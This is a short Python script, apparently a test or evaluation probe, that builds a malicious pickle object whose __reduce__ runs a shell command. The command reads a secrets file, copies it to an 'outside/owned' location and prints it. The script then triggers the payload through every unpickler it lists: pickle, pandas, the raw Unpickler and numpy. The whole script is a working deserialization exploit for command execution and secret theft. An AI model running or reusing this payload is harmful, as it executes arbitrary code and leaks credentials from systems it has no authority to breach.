# exec: every unpickler there is
import pickle,shelve,pandas as pd,numpy as np,io,os
class E:
    def __reduce__(self): return (os.system,('cat @HOME@/.secrets/app_secret.txt > @HOME@/outside/owned; cat @HOME@/.secrets/app_secret.txt',))
b=pickle.dumps(E()); open('e.pkl','wb').write(b)
for way in (lambda: pickle.loads(b), lambda: pd.read_pickle('e.pkl'), lambda: pickle._Unpickler(io.BytesIO(b)).load(), lambda: np.load('e.pkl',allow_pickle=True)):
    try: print(way())
    except Exception as e: print(e)
